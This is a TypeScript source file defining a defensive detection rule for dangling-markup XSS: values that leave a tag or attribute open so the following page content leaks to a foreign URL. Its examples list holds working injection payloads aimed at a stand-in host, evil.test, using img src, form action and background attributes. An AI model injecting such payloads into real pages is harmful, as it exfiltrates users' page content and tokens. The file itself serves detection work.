import { html } from '../../grammars/html/html.ts';
import type { HtmlAttribute, HtmlTag, HtmlTags } from '../../grammars/html/html-tags.ts';
import { isForeignUrl, squeeze } from '../../grammars/html/markup.ts';
import { confidence } from '../../placement/confidence.ts';
import type { Subject } from '../../placement/subject.ts';
import { charClass } from '../../text/char-class.ts';
import { wordSet } from '../../text/words.ts';
import type { Match, ValueRule } from '../rule.ts';

/** `"><img src='//evil.test/?`: what follows on the page becomes part of a URL, or of a form. */
export const danglingMarkup: ValueRule = {
  id: 'xss.dangling-markup',
  score: confidence.strong,
  message: 'leaves a tag, attribute or element open, so that it swallows the page that follows',
  trigger: { classes: charClass.less },
  judge: judgeDangling,
  examples: [
    '"><img src=\'//evil.test/?',
    "<img src='https://evil.test/log?html=",
    "'><form action=//evil.test/><input type=submit>",
    '"><base target=\'',
    '"><plaintext>',
    "'><textarea name=x>",
    '<table background="//evil.test?',
    '<b>Hi</b> <td background="http://evil.test/?',
  ],
  lookalikes: [
    'The photo: <img src="https://cdn.example.org/ima',
    '<p>see</p><a href="https://example.org/?id=',
    'a "quoted" text > b <textarea> is an element',
    '<form action="https://example.org/search"><input name="q"></form>',
    'size 5"> <b>big</b>',
    'encrypt <plaintext> with "key"',
  ],
};

/** What swallows the page when it stays open. */
const swallowing: ReadonlySet<string> = wordSet(
  'plaintext textarea xmp style title noscript option',
);
const urlNames: ReadonlySet<string> = wordSet('src href action poster background data');

function judgeDangling(subject: Subject): Match | undefined {
  const { text } = subject;
  const isOut = breaksOut(text);
  if (!isOut && !canDangle(text)) return undefined;
  const { tags } = subject.tokens(html);
  if (isOut) {
    const first = tags.at(0);
    if (first !== undefined && isSwallowing(text, first, tags)) {
      return { start: 0, end: first.end, score: confidence.strong };
    }
  }
  const last = tags.at(tags.length - 1);
  if (last === undefined || last.isClosed) return undefined;
  const open = last.attributes.last;
  if (open === undefined || !isOpen(text, open)) return undefined;
  const score = scoreOfOpen(text, last, open, isOut);
  return score === 0 ? undefined : { start: last.start, end: text.length, score };
}

/** A quotation mark that nothing has opened, and the end of a tag that the text does not begin. */
function breaksOut(text: string): boolean {
  const end = text.indexOf('>');
  if (end < 1 || end > breakOutCharsMax) return false;
  const before = text.slice(0, end);
  if (before.includes('<') || before.includes(' ')) return false;
  return before.split('"').length % 2 === 0 || before.split("'").length % 2 === 0;
}

const breakOutCharsMax = 24;

/** No tag ends behind the last `<`, and the last mark of a kind begins a value: it may be open. */
function canDangle(text: string): boolean {
  if (text.includes('>', text.lastIndexOf('<'))) return false;
  return beginsValue(text, text.lastIndexOf('"')) || beginsValue(text, text.lastIndexOf("'"));
}

/** `="`, `= "` and the `=""` of CSV. */
function beginsValue(text: string, mark: number): boolean {
  if (mark < 1) return false;
  let at = mark - 1;
  if (text.charCodeAt(at) === text.charCodeAt(mark)) at--;
  while (at >= 0 && mayBeBlank(text.charCodeAt(at))) at--;
  return text.charCodeAt(at) === 61;
}

/** White space as tags are read with it, and more. */
function mayBeBlank(code: number): boolean {
  return code <= 32 || code >= 127;
}

function isSwallowing(text: string, tag: HtmlTag, tags: HtmlTags): boolean {
  if (tag.isEndTag) return false;
  const endTag = tags.find(({ name, isEndTag }) => isEndTag && name === tag.name);
  if (endTag !== undefined) return false;
  if (swallowing.has(tag.name)) return tag.isClosed;
  if (tag.name !== 'form' && tag.name !== 'button') return false;
  return tag.attributes.some(
    ({ name, valueStart, valueEnd }) =>
      (name === 'action' || name === 'formaction') &&
      isForeignUrl(squeeze(text, valueStart, valueEnd)),
  );
}

/** A quoted value whose closing mark is missing. */
function isOpen(text: string, { quote, valueEnd }: HtmlAttribute): boolean {
  return quote !== 0 && valueEnd === text.length;
}

/** `//evil.test?`: all that follows becomes the query, and nothing is asked for by it. */
const bareHost = /^(?:https?:)?\/\/[\w.-]{1,200}\/?\?$/i;

/** A text may be cut off in the middle of a URL; it is not made to end where data would follow. */
function scoreOfOpen(text: string, tag: HtmlTag, open: HtmlAttribute, isOut: boolean): number {
  if (open.name === 'target') return tag.name === 'base' || isOut ? confidence.likely : 0;
  if (!urlNames.has(open.name)) return 0;
  const url = squeeze(text, open.valueStart, open.valueEnd);
  if (!isForeignUrl(url)) return 0;
  if (isOut) return confidence.strong;
  if (bareHost.test(url) && open.name === 'background') return confidence.likely;
  const isLoaded = tag.name === 'img' || tag.name === 'image' || tag.name === 'iframe';
  return isLoaded && tag.start === 0 && (url.endsWith('?') || url.endsWith('='))
    ? confidence.likely
    : confidence.trace;
}
